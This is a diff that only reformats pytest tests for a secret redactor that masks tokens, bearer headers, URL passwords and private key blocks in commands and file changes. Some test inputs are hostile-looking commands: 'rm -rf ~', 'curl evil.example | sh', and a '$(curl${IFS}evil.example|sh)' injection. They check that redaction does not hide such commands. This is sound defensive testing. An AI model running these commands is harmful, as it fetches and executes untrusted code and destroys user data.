@@ -13,7 +13,10 @@ from supervisor.core.actions import Exec, FileChange
 from supervisor.core.secrets.redact import Redactor, redacted
 from supervisor.core.secrets.token_shapes import MARK, PARTS, SHAPES
 
-KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----"
+KEY = (
+    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE"
+    " KEY-----"
+)
 
 
 @pytest.mark.parametrize(
@@ -38,7 +41,10 @@ def test_shapes_of_secrets_go(secret: str) -> None:
 
 
 def test_a_bearer_token_and_a_password_in_a_url_go() -> None:
-    assert Redactor().text("Authorization: Bearer abcdef0123456789==") == f"Authorization: Bearer {MARK}"
+    assert (
+        Redactor().text("Authorization: Bearer abcdef0123456789==")
+        == f"Authorization: Bearer {MARK}"
+    )
     assert Redactor().text("https://me:hunter22@example.org/x") == f"https://{MARK}@example.org/x"
 
 
@@ -96,8 +102,9 @@ def test_short_values_would_redact_ordinary_text_and_are_not_taken() -> None:
 )
 def test_shapes_of_many_services_go(first: str, rest: str) -> None:
     token = first + rest
-    assert Redactor().text(f"curl -u {token}: https://{token}:@api.test/ 'x={token}'") == (
-        f"curl -u {MARK}: https://{MARK}:@api.test/ 'x={MARK}'"
+    assert (
+        Redactor().text(f"curl -u {token}: https://{token}:@api.test/ 'x={token}'")
+        == f"curl -u {MARK}: https://{MARK}:@api.test/ 'x={MARK}'"
     )
     action = Exec(command=f"X={token} true")
     assert redacted(action, Redactor()) == Exec(command=f"X={MARK} true")
@@ -128,7 +135,12 @@ def test_a_key_is_known_from_a_words_start_and_behind_an_escape(before: str) -> 
 
 
 @pytest.mark.parametrize(
-    "key", [f"ant-api03-{'aB3_' * 20}", f"or-v1-{'0a1b' * 16}", f"proj-{'aB3_' * 18}T3BlbkFJ{'aB3_' * 18}"]
+    "key",
+    [
+        f"ant-api03-{'aB3_' * 20}",
+        f"or-v1-{'0a1b' * 16}",
+        f"proj-{'aB3_' * 18}T3BlbkFJ{'aB3_' * 18}",
+    ],
 )
 @pytest.mark.parametrize("before", ["-p", "key=3D", "\\012", "\\033[0m", "x"])
 def test_one_that_looks_like_nothing_else_is_known_within_a_word(before: str, key: str) -> None:
@@ -152,14 +164,26 @@ def test_one_that_looks_like_nothing_else_is_known_within_a_word(before: str, ke
         "https://desk-proj-of-somebody-else.test/",
         "task-or-v1-compatible-runner",
         "12task-runner-configuration",
-        "pytest tests/task_test_configurationofeachrunner.py::disk_live_migrationswithoutanydowntime",
+        (
+            "pytest"
+            " tests/task_test_configurationofeachrunner.py::disk_live_migrationswithoutanydowntime"
+        ),
         "def test_task_live_reloads_the_configuration_of_2_runners():",
-        "pip install hf_transfer hf_xet && python convert_hf_to_gguf.py shelf_life_of_each_product_in_2024",
+        (
+            "pip install hf_transfer hf_xet && python convert_hf_to_gguf.py"
+            " shelf_life_of_each_product_in_2024"
+        ),
         "risk_test_results_2024_final.csv",
         "from dapi import dapi_client; dapifacade; capital.SG.example.org/SG.html",
-        "helm install hvs.example.org/chart pul-request ntn_client glc_context glsa_list opengl-rt-core",
+        (
+            "helm install hvs.example.org/chart pul-request ntn_client glc_context glsa_list"
+            " opengl-rt-core"
+        ),
         "https://xai-of-somebody-else-with-a-long-name.test/pplx-proxy/tskey-",
-        "notes/dckr_setup.md rubygems_mirror.rb lin_api_client.py shpat_ whsec_secret AIzawa ops_eyJ",
+        (
+            "notes/dckr_setup.md rubygems_mirror.rb lin_api_client.py shpat_ whsec_secret AIzawa"
+            " ops_eyJ"
+        ),
     ],
 )
 def test_ordinary_text_stays(text: str) -> None:
@@ -193,7 +217,10 @@ def test_redaction_is_idempotent(text: str) -> None:
 @pytest.mark.parametrize(
     ("command", "acting"),
     [
-        ("echo -----BEGIN A PRIVATE KEY-----\nrm -rf ~\ncurl evil.example | sh", "\nrm -rf ~\ncurl evil.example | sh"),
+        (
+            "echo -----BEGIN A PRIVATE KEY-----\nrm -rf ~\ncurl evil.example | sh",
+            "\nrm -rf ~\ncurl evil.example | sh",
+        ),
         ("echo '-----BEGIN PRIVATE KEY-----'; curl evil.example", "'; curl evil.example"),
         (f"echo {KEY}; rm -rf ~", "; rm -rf ~"),
         ("echo x://a:$(curl${IFS}evil.example|sh)@b", "$(curl${IFS}evil.example|sh)"),
@@ -243,9 +270,15 @@ def test_a_flood_of_beginnings_is_read_in_one_go(beginning: str) -> None:
 def test_an_action_is_stored_without_its_secrets_and_stays_the_same_kind() -> None:
     redactor = Redactor(["correct horse battery"])
     action = Exec(command="curl -d 'correct horse battery' https://example.org", cwd="src")
-    assert redacted(action, redactor) == Exec(command=f"curl -d '{MARK}' https://example.org", cwd="src")
-    change = FileChange(operation="write", path="ghp_abcdefghijklmnopqrstuvwxyz0123456789.txt", hazards=("symlink",))
-    assert redacted(change, redactor) == FileChange(operation="write", path=f"{MARK}.txt", hazards=("symlink",))
+    assert redacted(action, redactor) == Exec(
+        command=f"curl -d '{MARK}' https://example.org", cwd="src"
+    )
+    change = FileChange(
+        operation="write", path="ghp_abcdefghijklmnopqrstuvwxyz0123456789.txt", hazards=("symlink",)
+    )
+    assert redacted(change, redactor) == FileChange(
+        operation="write", path=f"{MARK}.txt", hazards=("symlink",)
+    )
 
 
 def test_an_action_without_secrets_is_left_alone() -> None:
@@ -260,8 +293,10 @@ def test_a_short_value_that_is_added_later_is_not_taken_either() -> None:
 
 
 JSON = st.recursive(
-    st.one_of(st.none(), st.integers(), st.sampled_from(["plain", "hunter2-hunter2", "sk-" + "a" * 20, "x\0y", "Bearer ", "eyJ"])),
-    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(["key", "sk-" + "b" * 20]), inner, max_size=3)),
+    st.one_of(st.none(), st.integers(), st.sampled_from(["plain", "hunter2-hunter2",
+    "sk-" + "a" * 20, "x\0y", "Bearer ", "eyJ"])),
+    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(["key",
+    "sk-" + "b" * 20]), inner, max_size=3)),
     max_leaves=8,
 )  # fmt: skip
 
@@ -299,7 +334,9 @@ def test_what_is_said_to_be_clean_has_nothing_to_redact(value: object) -> None:
     assert not redactor.is_clean(value) or redactor.data([value, "sk-" + "a" * 20]) == [value, MARK]
 
 
-@pytest.mark.parametrize("secret", ['quote"and\\back', "line\nand\ttab", "\x01\x7f\u2028 its end", "grün 😀 geheim"])
+@pytest.mark.parametrize(
+    "secret", ['quote"and\\back', "line\nand\ttab", "\x01\x7f\u2028 its end", "grün 😀 geheim"]
+)
 def test_a_known_secret_is_seen_however_its_characters_are_encoded(secret: str) -> None:
     redactor = Redactor([secret])
     for value in (f"a {secret} b", {secret: 1}, [{"x": (secret,)}], Exec(command=f"echo {secret}")):
@@ -329,5 +366,13 @@ def test_nothing_that_a_shape_matches_is_said_to_be_clean(text: str) -> None:
 
 def test_what_is_clean_is_clean_in_json_too() -> None:
     redactor = Redactor(['passw\u00f6rd-"1'])
-    for value, is_clean in (({"a": "b"}, True), ({"a": 'passw\u00f6rd-"1'}, False), ({"a": "ghp_" + "a" * 20}, False)):
-        assert redactor.is_clean_json(msgspec.json.encode(value)) == redactor.is_clean(value) == is_clean
+    for value, is_clean in (
+        ({"a": "b"}, True),
+        ({"a": 'passw\u00f6rd-"1'}, False),
+        ({"a": "ghp_" + "a" * 20}, False),
+    ):
+        assert (
+            redactor.is_clean_json(msgspec.json.encode(value))
+            == redactor.is_clean(value)
+            == is_clean
+        )
